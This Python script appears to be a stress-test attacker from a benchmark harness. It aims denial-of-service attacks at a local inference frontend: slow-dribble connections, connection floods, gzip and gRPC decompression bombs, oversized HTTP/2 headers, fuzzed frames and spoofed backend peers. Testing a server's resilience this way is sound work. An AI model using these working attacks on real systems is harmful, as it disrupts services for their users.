#!/usr/bin/python3
"""The attacker of `bench/serve/run hostile`: runs one or several attacks on a frontend until SIGTERM.

    bench/serve/attacker.py --ports client=P,backend=P,http=P,grpc=P,metrics=P --frames DIR ATTACK...
    bench/serve/attacker.py --ports ... --frames DIR probe

It runs at nice 19 and spends no more than --cpu of a core, so that what the honest load loses is the server's doing and
not the attacker's. It connects from an address of its own (127.0.0.66), as a stranger would. At the end it prints one
line of JSON: what it did, and its own CPU time.

`probe` is no attack: an honest newcomer who opens a fresh connection to each port twice a second and asks a question.
"""
import argparse
import asyncio
import collections
import contextlib
import contextvars
import gzip
import json
import os
import pathlib
import random
import resource
import signal
import ssl
import struct
import sys
import time
import zlib

FRAME_HEADER_BYTES = 16
PROBE_PATIENCE_S = 1.0
HTTP2_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\x00\x00\x00\x04\x00\x00\x00\x00\x00"  # and empty SETTINGS
HTTP2_FRAME_BYTES = 16384
DATA, HEADERS, SETTINGS, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 4, 7, 8, 9
END_STREAM, ACK, END_HEADERS = 1, 1, 4


def http2_frame(kind, flags, stream, payload):
    return len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + payload


def hpack_length(length):
    """The length of a string that is not Huffman-coded: an integer with a prefix of 7 bits (RFC 7541, 5.1)."""
    if length < 127:
        return bytes((length,))
    coded, length = bytearray((127,)), length - 127
    while length >= 128:
        coded.append(0x80 | length & 0x7F)
        length >>= 7
    coded.append(length)
    return bytes(coded)


def hpack_field(name, value):
    """A header field that enters no table."""
    return b"\0" + hpack_length(len(name)) + name + hpack_length(len(value)) + value


def grpc_head(path):
    return b"".join(hpack_field(name, value) for name, value in (
        (b":method", b"POST"), (b":scheme", b"http"), (b":path", path), (b":authority", b"h"), (b"te", b"trailers"),
        (b"content-type", b"application/grpc"), (b"grpc-encoding", b"gzip")))


ATTACK = contextvars.ContextVar("attack", default="")  # of the task


class Budget:
    """Limits the process to a share of one core: no attack gets a turn while more has been
    used. Attacks take turns, so that one with thousands of connections does not starve the others."""

    TICK_S = 0.01
    TURNS_PER_TICK = 40

    def __init__(self, share):
        self.share = share
        self.began = time.monotonic()
        self.started_with_s = time.process_time()  # Python's own start
        self.stopping = False
        self.waiting = collections.defaultdict(collections.deque)  # by attack

    def spent_s(self):
        return time.process_time() - self.started_with_s

    async def turn(self):
        if self.stopping:
            return
        mine = asyncio.get_running_loop().create_future()
        self.waiting[ATTACK.get()].append(mine)
        await mine

    async def govern(self):
        while True:
            await asyncio.sleep(self.TICK_S)
            given = 0
            queues = [queue for queue in self.waiting.values() if queue]
            random.shuffle(queues)
            while queues and given < self.TURNS_PER_TICK and self.affordable():
                for queue in queues:
                    turn = queue.popleft()
                    if not turn.done():
                        turn.set_result(None)
                        given += 1
                queues = [queue for queue in queues if queue]

    def affordable(self):
        return self.spent_s() <= self.share * (time.monotonic() - self.began)


class Site:
    def __init__(self, arguments):
        self.ports = {name: int(port) for name, port in (one.split("=") for one in arguments.ports.split(","))}
        self.frames = {file.stem: file.read_bytes() for file in sorted(pathlib.Path(arguments.frames).glob("*.bin"))}
        self.source = arguments.source
        self.tls = {}
        if arguments.authority:
            for port in self.ports:
                context = ssl.create_default_context(cafile=arguments.authority)
                if port == "grpc":
                    context.set_alpn_protocols(["h2"])
                if port == "backend" and arguments.certificate:
                    context.load_cert_chain(arguments.certificate, arguments.key)
                self.tls[port] = context

    async def open(self, port):
        context = self.tls.get(port)
        return await asyncio.open_connection("127.0.0.1", self.ports[port], local_addr=(self.source, 0), ssl=context,
                                             server_hostname="127.0.0.1" if context else None, limit=1 << 20)

    async def open_bare(self, port):
        """Without a handshake."""
        return await asyncio.open_connection("127.0.0.1", self.ports[port], local_addr=(self.source, 0))

    def matching(self, prefix):
        return [frame for name, frame in self.frames.items() if name.startswith(prefix)]


class Attacker:
    def __init__(self, site, budget, strength):
        self.site = site
        self.budget = budget
        self.strength = strength
        self.done = {}  # counts by action
        self.connections = {}  # by attack

    def count(self, what, times=1):
        self.done[what] = self.done.get(what, 0) + times
        if what == "connections":
            name = ATTACK.get()
            self.connections[name] = self.connections.get(name, 0) + times

    def many(self, number):
        return max(1, round(number * self.strength))

    async def forever(self, attempt, pause_s):
        """Again and again, whatever the server does to the connection."""
        while not self.budget.stopping:
            await self.budget.turn()
            try:
                await attempt()
            except (OSError, EOFError, ssl.SSLError, asyncio.TimeoutError, ValueError):
                self.count("ended by the server")
            await asyncio.sleep(pause_s * (0.5 + random.random()))

    @contextlib.asynccontextmanager
    async def connection(self, port, bare=False):
        self.count("connections")
        opening = self.site.open_bare(port) if bare else self.site.open(port)
        reader, writer = await asyncio.wait_for(opening, 10)
        try:
            yield reader, writer
        finally:
            writer.transport.abort()

    # ---- the attacks: each returns the coroutines that make it

    def announce(self):
        """Connections that announce 64 MB and send a byte now and then."""
        head = (b"POST /v2/models/picture/infer HTTP/1.1\r\nHost: h\r\nContent-Length: 67000000\r\n\r\n")

        async def dribble(port, begin):
            async with self.connection(port) as (reader, writer):
                writer.write(begin)
                while not self.budget.stopping and not reader.at_eof():
                    await self.budget.turn()
                    writer.write(b"x")
                    await writer.drain()
                    await asyncio.sleep(0.5)

        for i in range(self.many(64)):
            port, begin = ("client", self.site.frames["announce"]) if i % 2 == 0 else ("http", head)
            yield self.forever(lambda port=port, begin=begin: dribble(port, begin), 0.2)

    def silent(self):
        """More silent connections than any port accepts."""
        async def hold(port):
            async with self.connection(port, bare=True) as (reader, _):
                while not self.budget.stopping and await reader.read(4096):
                    pass
            self.count("ended by the server")

        for port, number in (("client", 4200), ("http", 4200), ("metrics", 330), ("backend", 300), ("grpc", 300)):
            for _ in range(self.many(number)):
                yield self.forever(lambda port=port: hold(port), 2.0)

    def gzip(self):
        """Small compressed bodies that grow large, to calls of administrators."""
        bomb = gzip.compress(bytes(60 << 20), 9)
        paths = ("/v2/repository/index", "/v2/repository/models/small/load", "/v2/models/small/infer")

        async def post():
            async with self.connection("http") as (reader, writer):
                while not self.budget.stopping:
                    await self.budget.turn()
                    path = random.choice(paths)
                    writer.write(f"POST {path} HTTP/1.1\r\nHost: h\r\nContent-Encoding: gzip\r\n"
                                 f"Content-Length: {len(bomb)}\r\n\r\n".encode() + bomb)
                    await self.answer(reader)
                    self.count("bombs")
                    await asyncio.sleep(0.1)

        for _ in range(self.many(4)):
            yield self.forever(post, 0.1)

    async def answer(self, reader):
        """Reads one answer of HTTP to its end."""
        head = (await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), 20)).lower()
        at = head.find(b"content-length:")
        if at >= 0:
            length = int(head[at + 15:head.find(b"\r\n", at)])
            while length > 0:
                piece = await asyncio.wait_for(reader.read(min(length, 1 << 16)), 20)
                if not piece:
                    raise EOFError
                length -= len(piece)
        elif b"transfer-encoding: chunked" in head:
            while True:
                length = int(await asyncio.wait_for(reader.readline(), 20), 16)
                await reader.readexactly(length + 2)
                if length == 0:
                    break
        if b"connection: close" in head:
            raise EOFError

    async def reply(self, reader):
        """Reads one frame."""
        header = await asyncio.wait_for(reader.readexactly(FRAME_HEADER_BYTES), 20)
        message, payload = struct.unpack("<II", header[-8:])
        rest = message + payload
        while rest > 0:
            piece = await asyncio.wait_for(reader.read(min(rest, 1 << 16)), 20)
            if not piece:
                raise EOFError
            rest -= len(piece)

    def status(self):
        """Pipelined status requests."""
        async def ask():
            async with self.connection("client") as (reader, writer):
                while not self.budget.stopping:
                    await self.budget.turn()
                    writer.write(self.site.frames["status"] * 64)
                    for _ in range(64):
                        await self.reply(reader)
                        self.count("questions")
                    await asyncio.sleep(0.05)

        for _ in range(self.many(4)):
            yield self.forever(ask, 0.1)

    def pages(self):
        """Metrics, traces and the dashboard's documents in loops."""
        async def get(port, path):
            async with self.connection(port) as (reader, writer):
                while not self.budget.stopping:
                    await self.budget.turn()
                    writer.write(f"GET {path} HTTP/1.1\r\nHost: h\r\n\r\n".encode())
                    await self.answer(reader)
                    self.count("pages")
                    await asyncio.sleep(0.05)

        for port, path, number in (("metrics", "/metrics", 4), ("http", "/gpulet/trace?seconds=2", 4),
                                   ("metrics", "/gpulet/history", 2), ("http", "/v2/models/stats", 2)):
            for _ in range(self.many(number)):
                yield self.forever(lambda port=port, path=path: get(port, path), 0.1)

    def readers(self):
        """Clients that request much and read slowly."""
        async def ask(port, what):
            async with self.connection(port) as (reader, writer):
                writer.transport.pause_reading()
                for _ in range(20):
                    await self.budget.turn()
                    writer.write(what)
                    self.count("questions", 100)
                    await asyncio.sleep(0.5)
                    if writer.transport.is_closing() or reader.at_eof():
                        raise EOFError

        page = b"GET /metrics HTTP/1.1\r\nHost: h\r\n\r\n" * 100
        index = b"POST /v2/repository/index HTTP/1.1\r\nHost: h\r\nContent-Length: 2\r\n\r\n{}" * 100
        for port, what, number in (("client", self.site.frames["status"] * 100, 20), ("http", index, 20),
                                   ("metrics", page, 20)):
            for _ in range(self.many(number)):
                yield self.forever(lambda port=port, what=what: ask(port, what), 0.5)

    def frames(self):
        """Frames that look valid, with bytes changed."""
        valid = self.site.matching("valid")

        def altered():
            frame = bytearray(random.choice(valid))
            for _ in range(random.randrange(4)):
                at = random.randrange(FRAME_HEADER_BYTES if random.random() < 0.9 else 0, len(frame))
                frame[at] = random.randrange(256)
            return bytes(frame)

        async def send(port):
            async with self.connection(port) as (reader, writer):
                for _ in range(20):
                    await self.budget.turn()
                    writer.write(b"".join(altered() for _ in range(5)))
                    self.count("frames", 5)
                    with contextlib.suppress(asyncio.TimeoutError):
                        if not await asyncio.wait_for(reader.read(1 << 16), 0.02):
                            raise EOFError

        for _ in range(self.many(8)):
            for port in ("client", "backend"):
                yield self.forever(lambda port=port: send(port), 0.05)

    def churn(self):
        """Connections that open and close at once."""
        async def open_and_close(port, bare):
            async with self.connection(port, bare) as (_, writer):
                if random.random() < 0.5:
                    writer.write(b"G")
                    await asyncio.sleep(0.01)

        for port in self.site.ports:
            for bare in (True, False):
                for _ in range(self.many(4)):
                    yield self.forever(lambda port=port, bare=bare: open_and_close(port, bare), 0.1)

    def backend(self):
        """Peers that pose as backends: before a Hello, with two, under another's name, with others' batches."""
        frames = self.site.frames
        results, reports = b"".join(self.site.matching("result")), b"".join(self.site.matching("report"))
        plays = {
            "results before a Hello": results + reports,
            "files before a Hello": frames["wanted"] * 20,
            "another node's name": frames["hello_n0"] + results,
            "two Hellos": frames["hello_evil"] * 2,
            "a Hello, then another name": frames["hello_evil"] + frames["hello_n0"] + results,
            "another's gpulets": frames["hello_claims"] + reports + results,
            "a device named twice": frames["hello_twice"],
            "a device of no use, and results": frames["hello_evil"] + results + reports,
            "files in a loop": frames["hello_evil"] + frames["wanted"] * 200,
            "leaving before a Hello": frames["leaving"] + frames["hello_evil"] + frames["leaving"],
        }

        async def play():
            what = random.choice(list(plays))
            async with self.connection("backend") as (reader, writer):
                self.count(what)
                writer.write(plays[what])
                end = time.monotonic() + 2
                while time.monotonic() < end and not self.budget.stopping:
                    await self.budget.turn()
                    if not await asyncio.wait_for(reader.read(1 << 16), 2):
                        raise EOFError

        for _ in range(self.many(4)):
            yield self.forever(play, 0.2)

    def grpc(self):
        """Connections of gRPC: held, and opened and closed."""
        async def hold(seconds):
            async with self.connection("grpc") as (reader, writer):
                writer.write(HTTP2_PREFACE)
                with contextlib.suppress(asyncio.TimeoutError):
                    while await asyncio.wait_for(reader.read(4096), seconds):
                        pass

        for i in range(self.many(400)):
            yield self.forever(lambda seconds=0.05 if i % 20 == 0 else 30: hold(seconds), 0.5)

    def headers(self):
        """gRPC calls with one header of 60 MB."""
        path = b"/inference.GRPCInferenceService/ModelInfer"
        begin = grpc_head(path) + b"\0" + hpack_length(1) + b"x" + hpack_length(60 << 20)
        piece = http2_frame(CONTINUATION, 0, 1, b"v" * HTTP2_FRAME_BYTES)

        async def send():
            async with self.connection("grpc") as (reader, writer):
                self.count("headers")
                writer.write(HTTP2_PREFACE + http2_frame(HEADERS, 0, 1, begin))
                for _ in range((60 << 20) // HTTP2_FRAME_BYTES):
                    await self.budget.turn()
                    writer.write(piece)
                    await writer.drain()
                    self.count("header bytes", HTTP2_FRAME_BYTES)
                    if self.budget.stopping or reader.at_eof():
                        break

        for _ in range(self.many(100)):
            yield self.forever(send, 0.5)

    def packed(self):
        """gRPC messages of 1 MB that grow to 1 GB."""
        packer = zlib.compressobj(9, wbits=31)
        begin = packer.compress(b"") or packer.flush(zlib.Z_FULL_FLUSH)
        part = packer.compress(bytes(1 << 20)) + packer.flush(zlib.Z_FULL_FLUSH)
        bomb = begin + part * 1024  # after a full flush each part stands for itself
        message = b"\1" + len(bomb).to_bytes(4, "big") + bomb
        head = grpc_head(b"/inference.GRPCInferenceService/ModelInfer")

        async def send():
            async with self.connection("grpc") as (reader, writer):
                self.count("bombs")
                writer.write(HTTP2_PREFACE + http2_frame(HEADERS, END_HEADERS, 1, head))
                windows = {0: 65535, 1: 65535}
                sent = 0
                while sent < len(message) and not self.budget.stopping:
                    await self.budget.turn()
                    part = message[sent:sent + min(HTTP2_FRAME_BYTES, windows[0], windows[1])]
                    if part:
                        writer.write(http2_frame(DATA, 0, 1, part))
                        await writer.drain()
                        sent += len(part)
                        windows = {stream: window - len(part) for stream, window in windows.items()}
                    else:
                        await self.http2_answer(reader, writer, windows)
                while not self.budget.stopping:
                    await self.http2_answer(reader, writer, windows)

        for _ in range(self.many(8)):
            yield self.forever(send, 0.2)

    async def http2_answer(self, reader, writer, windows):
        """Reads one frame and follows its flow control. Raises EOFError once the server ended the call."""
        head = await asyncio.wait_for(reader.readexactly(9), 20)
        kind, flags, stream = head[3], head[4], int.from_bytes(head[5:9], "big")
        payload = await asyncio.wait_for(reader.readexactly(int.from_bytes(head[:3], "big")), 20)
        if kind == WINDOW_UPDATE and stream in windows:
            windows[stream] += int.from_bytes(payload, "big")
        elif kind == SETTINGS and not flags & ACK:
            for at in range(0, len(payload), 6):
                if int.from_bytes(payload[at:at + 2], "big") == 4:  # the initial window of a stream
                    windows[1] += int.from_bytes(payload[at + 2:at + 6], "big") - 65535
            writer.write(http2_frame(SETTINGS, ACK, 0, b""))
        elif kind == GOAWAY or (kind == HEADERS and flags & END_STREAM):
            raise EOFError


ATTACKS = ("announce", "silent", "gzip", "status", "pages", "readers", "frames", "churn", "backend", "grpc", "headers",
           "packed")


class Probe:
    """Requests of an honest client, each on a new connection."""

    def __init__(self, site, budget):
        self.site = site
        self.budget = budget
        self.results = {port: {"asked": 0, "failed": 0, "worst_ms": 0.0} for port in ("client", "http", "grpc", "metrics")}

    async def ask(self, port):
        reader, writer = await self.site.open(port)
        try:
            if port == "client":
                writer.write(self.site.frames["models"])
                wanted = b"GPLT"
            elif port == "grpc":
                writer.write(HTTP2_PREFACE)
                wanted = b""
            else:
                path = "/v2/health/live" if port == "http" else "/metrics"
                writer.write(f"GET {path} HTTP/1.1\r\nHost: h\r\nConnection: close\r\n\r\n".encode())
                wanted = b"HTTP/1.1 200"
            got = await reader.readexactly(9 if port == "grpc" else max(1, len(wanted)))
            if not got.startswith(wanted):
                raise ValueError(got)
        finally:
            writer.transport.abort()

    async def of(self, port):
        result = self.results[port]
        while not self.budget.stopping:
            began = time.monotonic()
            result["asked"] += 1
            try:
                await asyncio.wait_for(self.ask(port), PROBE_PATIENCE_S)
            except (OSError, EOFError, ssl.SSLError, asyncio.TimeoutError, ValueError):
                result["failed"] += 1
            took = time.monotonic() - began
            result["worst_ms"] = max(result["worst_ms"], round(1e3 * took, 1))
            await asyncio.sleep(max(0.0, 0.5 - took))


async def run(arguments):
    budget = Budget(arguments.cpu)
    site = Site(arguments)
    loop = asyncio.get_running_loop()
    stop = asyncio.Event()
    for number in (signal.SIGTERM, signal.SIGINT):
        loop.add_signal_handler(number, stop.set)
    loop.set_exception_handler(lambda *_: None)  # broken connections are expected
    probing = arguments.what == ["probe"]
    if probing:
        probe = Probe(site, budget)
        jobs = [("probe", probe.of(port)) for port in probe.results]
    else:
        attacker = Attacker(site, budget, arguments.strength)
        jobs = [(name, job) for name in arguments.what for job in getattr(attacker, name)()]
    tasks = [asyncio.create_task(budget.govern())]
    for name, job in jobs:
        ATTACK.set(name)
        tasks.append(asyncio.create_task(job))
    await stop.wait()
    budget.stopping = True
    report = {"cpu_s": round(budget.spent_s(), 2), "seconds": round(time.monotonic() - budget.began, 2)}
    report.update({"probes": probe.results} if probing else {"done": {**attacker.done, "connections": attacker.connections}})
    print(json.dumps(report), flush=True)
    for task in tasks:
        task.cancel()
    os._exit(0)  # thousands of connections: the kernel closes them faster


def main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("--ports", required=True)
    parser.add_argument("--frames", required=True)
    parser.add_argument("--authority", default="")
    parser.add_argument("--certificate", default="")
    parser.add_argument("--key", default="")
    parser.add_argument("--source", default="127.0.0.66")
    parser.add_argument("--strength", type=float, default=1.0)
    parser.add_argument("--cpu", type=float, default=0.15, help="share of a core")
    parser.add_argument("what", nargs="+", choices=ATTACKS + ("probe",))
    arguments = parser.parse_args()
    if arguments.what != ["probe"]:
        os.nice(19)
    else:
        arguments.source = "127.0.0.1"
        arguments.cpu = 1.0
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    asyncio.run(run(arguments))


if __name__ == "__main__":
    sys.exit(main())
